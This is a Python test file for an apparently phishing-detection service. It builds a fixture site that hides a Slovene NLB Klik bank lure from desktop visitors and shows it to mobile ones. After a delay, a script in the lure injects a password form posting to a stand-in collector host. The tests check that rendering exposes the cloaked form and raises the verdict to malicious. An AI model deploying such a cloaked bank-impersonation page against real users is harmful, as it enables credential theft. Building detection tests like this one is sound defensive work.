"""A site that shows computers flowers and telephones, by script, a form: the browser finds it.

And where no browser is, the verdict is given all the same.
"""

import json
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from msgspec import structs

from tests.assess.message import message
from tests.assess.stored import context, stored
from tests.collect.render.conftest import no_browser
from tests.collect.render.site import Request, Site, serving
from tests.store.world import own_party
from zvon.assess.jobs import assess
from zvon.collect.look_page import fetch_pages
from zvon.collect.render.process import NoBrowser
from zvon.collect.render_page import render_pages
from zvon.jobs import Context
from zvon.model.evidence import Evidence, EvidenceCode
from zvon.model.page import Outcome
from zvon.model.verdict import Verdict, VerdictWord
from zvon.store import capture, evidence, verdict
from zvon.store.transaction import Pool, transaction
from zvon.store.visibility import SYSTEM, read

AT = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
HEAD = "<!doctype html><html lang=sl><meta name=viewport content='width=device-width'>"
FLOWERS = HEAD + "<title>Vrtnarija</title>" + "<p>Rože sadimo spomladi in zalivamo zvečer." * 8
LURE = (
    HEAD
    + """<title>NLB Klik</title><h1>NLB Klik</h1><p>Vaš dostop je začasno zaklenjen. Prosimo,
potrdite svoje podatke, da ga lahko spet odpremo.</p><div id=x></div><script>setTimeout(()=>{
x.innerHTML='<form action="https://zbiralec.example/z"><input name=u><input type=password></form>'
},300)</script>"""
)


def cloaking(request: Request) -> bytes:
    return (LURE if "Mobile" in request.headers.get("user-agent", "") else FLOWERS).encode()


class Case:
    """One report about the site, taken through the stages by hand."""

    def __init__(self, pool: Pool, site: Site, **settings: Any) -> None:
        self.pool, self.site = pool, site
        node = cast(Any, SimpleNamespace(key=bytes(32)))
        self.job: Context = structs.replace(context(pool, lambda: AT, **settings), node=node)
        self.record_id = 0

    async def arrive(self) -> None:
        text = f"NLB: dostop do Klika je zaklenjen. Odklenite ga: {self.site.url('/')}"
        self.record_id = await stored(self.pool, AT, message(text))
        await assess(self.job, {"record_id": self.record_id})

    async def next(self, name: str) -> dict[str, Any]:
        """The payload of the look that waits now, taken out of the queue."""
        async with transaction(self.pool, AT) as tx:
            found = await (
                await tx.db.execute(
                    "delete from pgqueuer where id = (select min(id) from pgqueuer"
                    " where entrypoint = %s and execute_after <= now()) returning payload",
                    (name,),
                )
            ).fetchone()
        assert found is not None, f"no {name} waits"
        return dict(json.loads(found[0]))

    async def looked(self, name: str) -> None:
        looking = {"collect.fetch": fetch_pages, "collect.render": render_pages}[name]
        await looking(self.job, await self.next(name), guard=self.site.guard())
        await assess(self.job, {"record_id": self.record_id, "again": True})

    async def rows(self, stage: int) -> list[Evidence]:
        async with read(self.pool, SYSTEM) as db:
            return [e for e in await evidence.of_record(db, self.record_id) if e.stage == stage]

    async def verdict(self) -> Verdict:
        async with read(self.pool, SYSTEM) as db:
            latest = await verdict.latest_of(db, [self.record_id])
        return latest[self.record_id][0]


@pytest.mark.browser
async def test_a_cloaked_scripted_form_is_found_by_the_browser(pool: Pool) -> None:
    await own_party(pool, AT)
    async with serving({"/": cloaking}) as site:
        case = Case(pool, site)
        await case.arrive()
        first = await case.verdict()
        await case.looked("collect.fetch")
        assert EvidenceCode.FORM not in {each.code for each in await case.rows(3)}
        await case.looked("collect.render")
    async with read(pool, SYSTEM) as db:
        seen = [c for c in await capture.of_record(db, case.record_id) if c.stage == 4]
    if seen[0].outcome is Outcome.UNAVAILABLE:
        no_browser(NoBrowser(seen[0].reason))
    told = await case.rows(4)
    assert ("page.form", "password") in {(e.code.value, e.value) for e in told}
    cloaks = [e.params for e in told if e.code is EvidenceCode.CLOAK and e.value == "form"]
    assert {"vantage": "phone", "hidden_from": "desktop"} in cloaks
    last = await case.verdict()
    assert last.word is VerdictWord.MALICIOUS
    assert first.probability is not None
    assert last.probability is not None
    assert last.probability > first.probability
    assert {"CLOAK", "PASSWORD_FORM"} & {reason.code for reason in last.reasons}


async def test_without_a_browser_the_verdict_stands_and_says_so(pool: Pool, tmp_path: Path) -> None:
    await own_party(pool, AT)
    async with serving({"/": cloaking}) as site:
        case = Case(pool, site, chromium=tmp_path / "none")
        await case.arrive()
        await case.looked("collect.fetch")
        before = await case.verdict()
        await case.looked("collect.render")
    (told,) = await case.rows(4)
    assert (told.code, told.value) == (EvidenceCode.NO_BROWSER, "missing")
    after = await case.verdict()
    assert after.word is before.word
    assert after.probability == before.probability
